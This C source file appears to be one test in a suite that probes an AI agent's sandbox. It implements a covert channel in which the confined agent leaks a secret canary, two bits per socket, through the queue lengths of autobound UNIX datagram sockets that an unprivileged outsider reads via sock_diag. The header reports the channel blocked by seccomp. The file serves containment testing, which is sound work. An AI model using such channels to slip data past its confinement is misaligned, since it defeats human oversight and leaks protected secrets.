// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* unix_dgram_rqlen_after - how many of the datagrams an outsider queued on the agent's UNIX
 * datagram sockets it reads, which unix sock_diag shows every user: for a datagram socket
 * UNIX_DIAG_RQLEN udiag_rqueue is the LENGTH OF THE FIRST QUEUED DATAGRAM (unix_inq_len).
 * After its recv the agent makes UQ_SOCKS AF_UNIX SOCK_DGRAM sockets and tries to give each a
 * name an outsider can address without choosing it: autobind (bind with only sun_family), and,
 * failing that, SO_PASSCRED and a send (the kernel autobinds a sender with SO_PASSCRED). uid
 * 65534 looks for them in a NETLINK_SOCK_DIAG dump (UDIAG_SHOW_NAME | UDIAG_SHOW_UID: the
 * agent's uid, new since the "pre" sync, autobind names, ordered by inode) and sends each, at
 * index j, a 1-byte datagram carrying j and UQ_N datagrams of lengths 2..UQ_N + 1
 * (net.unix.max_dgram_qlen is 10 here: UQ_N = 4, 2 bits per socket). The agent reads j and then
 * as many more as the canary's 2-bit chunk j says; uid 65534 dumps UNIX_DIAG_RQLEN: the head
 * datagram's length - 2 is the chunk. Verifier: the chunks reassembled, compared with the canary.
 * Result: host (cgroup backend, 6.18): BLOCKED in user and root mode: the launcher's seccomp
 * filter refuses bind and SO_PASSCRED/SO_PASSPIDFD to a non-server agent (EPERM), so the
 * sockets stay unnamed and no outsider can queue anything on them. Positive control (unconfined:
 * autobind works): verified. unix_dgram_rqlen_given has an outsider name the sockets instead.
 * Bandwidth if open: ~3 bits per socket (2 as written), refillable. */
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/sock_diag.h>
#include <linux/unix_diag.h>
#include <stdint.h>
#include <sys/socket.h>
#include <sys/un.h>

#include "atk_variants.h"

#define UQ_SOCKS 56 /* one per 2-bit chunk of the 14-character canary */
#define UQ_N 4

static int agent(struct atk_ctx *c)
{
    atk_sync(c, "pre");
    static int s[UQ_SOCKS];
    struct sockaddr_un su = {.sun_family = AF_UNIX};
    int bound = 0;
    for (int i = 0; i < UQ_SOCKS; i++) {
        s[i] = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r = s[i] < 0 ? -1 : bind(s[i], (struct sockaddr *)&su, sizeof(sa_family_t)); /* autobind */
        if (i == 0) {
            atk_try(c, "socket unix dgram", s[i]);
            atk_try(c, "autobind", r);
        }
        if (r != 0 && s[i] >= 0) { /* SO_PASSCRED, then a send (autobinds the sender) */
            int one = 1;
            long p = setsockopt(s[i], SOL_SOCKET, SO_PASSCRED, &one, sizeof(one));
            struct sockaddr_un to = {.sun_family = AF_UNIX};
            snprintf(to.sun_path, sizeof(to.sun_path), "%s", atk_arg(c, "c_dgram") ? atk_arg(c, "c_dgram") : "/");
            long q = p == 0 ? sendto(s[i], "x", 1, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to)) : -1;
            if (i == 0) {
                atk_try(c, "SO_PASSCRED", p);
                if (p == 0)
                    atk_try(c, "sendto (autobinds with SO_PASSCRED)", q);
            }
            struct sockaddr_un me;
            socklen_t ml = sizeof(me);
            r = getsockname(s[i], (struct sockaddr *)&me, &ml) == 0 && ml > sizeof(sa_family_t) ? 0 : -1;
        }
        bound += r == 0;
    }
    atk_note(c, "autobound %d sockets", bound);
    atk_sync(c, "bound"); /* the outsider queues 1 + UQ_N datagrams on each */
    size_t n = strlen(c->secret);
    int got = 0;
    for (int i = 0; i < UQ_SOCKS; i++) {
        unsigned char j;
        char buf[64];
        if (s[i] < 0 || recv(s[i], &j, 1, MSG_DONTWAIT) != 1 || j >= UQ_SOCKS || (size_t)j / 4 >= n)
            continue;
        unsigned v = (unsigned char)c->secret[j / 4];
        unsigned chunk = (v >> (6 - 2 * (j % 4))) & 3;
        for (unsigned k = 0; k < chunk; k++)
            if (recv(s[i], buf, sizeof(buf), MSG_DONTWAIT) < 0)
                break;
        got++;
    }
    atk_note(c, "read an index from %d of %d sockets", got, UQ_SOCKS);
    atk_sync(c, "read"); /* the sockets stay open until the agent exits */
    return 0;
}

/* ---- unix sock_diag: datagram sockets (inode, uid, abstract name, rqlen) */
static struct atkv_unix_snap snap;

/* the agent's new autobound datagram sockets (owned by its uid), ordered by inode */
static int socks(struct atk_ctx *c, struct atkv_unix_diag *a)
{
    return atkv_unix_new(SOCK_DGRAM, &snap, (uint32_t)c->agent_uid, ATKV_AUTOBOUND, a, UQ_SOCKS);
}

static int nobody_sends(struct atk_ctx *c, char *out, size_t n)
{
    static struct atkv_unix_diag a[UQ_SOCKS];
    atkv_dgram_fill(a, socks(c, a), UQ_N, out, n);
    return 0;
}

static int nobody_reads(struct atk_ctx *c, char *out, size_t n)
{
    static struct atkv_unix_diag a[UQ_SOCKS];
    int k = socks(c, a);
    atkv_dgram_chunks(a, k, UQ_N, out, n < UQ_SOCKS / 4 + 1 ? n : UQ_SOCKS / 4 + 1);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        atkv_unix_snap_take(SOCK_DGRAM, &snap);
        return;
    }
    if (strcmp(tag, "bound") == 0) {
        char out[256] = "";
        atk_as_uid(c, ATK_NOBODY, nobody_sends, out, sizeof(out));
        fprintf(stderr, "%s: uid 65534: %s\n", c->a->name, out);
        return;
    }
    if (strcmp(tag, "read") != 0)
        return;
    char got[64] = {0};
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads, got, sizeof(got)) >= 0 && strstr(got, c->canary))
        atk_evidence(c, "uid 65534 queued datagrams of distinct lengths on the agent's autobound UNIX datagram sockets "
                        "and read the canary from the length of the first one left (NETLINK_SOCK_DIAG "
                        "UNIX_DIAG_RQLEN: how many the agent read)");
}

static const struct atk A = {"unix_dgram_rqlen_after",
                             "how many datagrams a tainted agent reads from its UNIX dgram sockets, as unix_diag RQLEN "
                             "(head datagram length) shows",
                             0,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
